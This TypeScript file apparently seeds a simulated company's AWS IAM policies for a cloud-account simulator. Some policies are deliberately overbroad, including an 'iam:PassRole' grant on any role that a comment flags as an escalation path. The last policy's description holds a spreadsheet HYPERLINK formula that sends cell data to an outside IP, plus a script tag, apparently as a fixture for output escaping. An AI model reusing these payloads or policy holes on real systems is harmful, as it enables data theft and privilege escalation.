import { managedPolicy } from "#lib/simulator/accounts/build/iam.ts";
import { allow, deny, policy } from "#lib/simulator/accounts/build/policies.ts";
import type { Frame } from "#lib/simulator/accounts/build/site.ts";
import { company } from "#lib/simulator/accounts/demo/company.ts";

const inAccount = { StringEquals: { "aws:ResourceAccount": company.account } };
const toSageMaker = { StringEquals: { "iam:PassedToService": "sagemaker.amazonaws.com" } };

/** The company's own policies. */
export function ownPolicies(frame: Frame) {
  const make = (name: string, document: string, description: string) =>
    managedPolicy(frame, { name, document, description, createdDaysAgo: 420 });
  return [
    make(
      "ml/execution-boundary",
      policy(
        allow(
          [
            "sagemaker:*",
            "s3:*",
            "kms:*",
            "logs:*",
            "ecr:*",
            "cloudwatch:PutMetricData",
            "ec2:*NetworkInterface*",
            "ec2:Describe*",
          ],
          "*",
          inAccount,
        ),
        deny(["iam:*", "organizations:*", "account:*", "sts:AssumeRole"]),
      ),
      "The most that a machine-learning execution role may ever do",
    ),
    make(
      "ml/vpc-and-logs",
      policy(
        allow(
          ["logs:CreateLogGroup", "logs:CreateLogStream", "logs:PutLogEvents"],
          `arn:aws:logs:*:${company.account}:log-group:/aws/sagemaker/*`,
        ),
        allow("cloudwatch:PutMetricData", "*", {
          StringEquals: { "cloudwatch:namespace": "/aws/sagemaker/TrainingJobs" },
        }),
        allow([
          "ec2:CreateNetworkInterface",
          "ec2:CreateNetworkInterfacePermission",
          "ec2:DeleteNetworkInterface",
          "ec2:DescribeNetworkInterfaces",
          "ec2:DescribeSecurityGroups",
          "ec2:DescribeSubnets",
          "ec2:DescribeVpcs",
          "ec2:DescribeDhcpOptions",
        ]),
        allow("ecr:GetAuthorizationToken"),
      ),
      "What every execution role needs to run in a VPC and to log",
    ),
    make(
      "data-scientist",
      policy(
        allow(["sagemaker:Describe*", "sagemaker:List*", "sagemaker:Search"]),
        allow([
          "sagemaker:CreateTrainingJob",
          "sagemaker:CreateProcessingJob",
          "sagemaker:CreateNotebookInstance",
          "sagemaker:UpdateNotebookInstance",
          "sagemaker:StartNotebookInstance",
          "sagemaker:StopNotebookInstance",
          "sagemaker:CreateNotebookInstanceLifecycleConfig",
          "sagemaker:CreateModel",
          "sagemaker:CreateEndpointConfig",
          "sagemaker:CreateEndpoint",
          "sagemaker:UpdateEndpoint",
        ]),
        allow(["sagemaker:CreatePresignedNotebookInstanceUrl", "sagemaker:CreatePresignedDomainUrl"]),
        // Any role may be passed to SageMaker: a way to every execution role's rights.
        allow("iam:PassRole", "*", toSageMaker),
      ),
      "Identity Center permission set DataScientist",
    ),
    make(
      "people/credit-risk-engineer",
      policy(
        allow(["sagemaker:Describe*", "sagemaker:List*", "sagemaker:Search"]),
        allow(
          ["sagemaker:CreatePresignedDomainUrl", "sagemaker:CreatePresignedNotebookInstanceUrl"],
          `arn:aws:sagemaker:eu-west-1:${company.account}:*/*`,
          {
            StringEquals: { "sagemaker:ResourceTag/Team": "credit-risk" },
            IpAddress: { "aws:SourceIp": "203.0.113.64/26" },
          },
        ),
        allow(["sagemaker:CreateTrainingJob", "sagemaker:CreateProcessingJob"], "*", {
          Bool: { "sagemaker:NetworkIsolation": "true", "sagemaker:InterContainerTrafficEncryption": "true" },
          Null: { "sagemaker:VpcSubnets": "false", "sagemaker:VolumeKmsKey": "false" },
        }),
        allow("iam:PassRole", `arn:aws:iam::${company.account}:role/ml/credit-risk-*`, toSageMaker),
      ),
      "Engineers of the credit-risk team; guarded by SageMaker's condition keys",
    ),
    make(
      "ci/ml-deploy",
      policy(
        allow(["sagemaker:*"]),
        allow("iam:PassRole", `arn:aws:iam::${company.account}:role/*`),
        allow(["s3:GetObject", "s3:PutObject"], "arn:aws:s3:::nwa-*"),
      ),
      "Deployment of models. TODO: narrow (ticket ML-1187)",
    ),
    // Descriptions take any text. The export and the pages must keep it text.
    make(
      "sandbox-experiments",
      policy(allow(["sagemaker:*", "lambda:*", "glue:*"])),
      '=HYPERLINK("http://192.0.2.66/?x="&A1,"open me") <script>alert("policy")</script>',
    ),
  ];
}
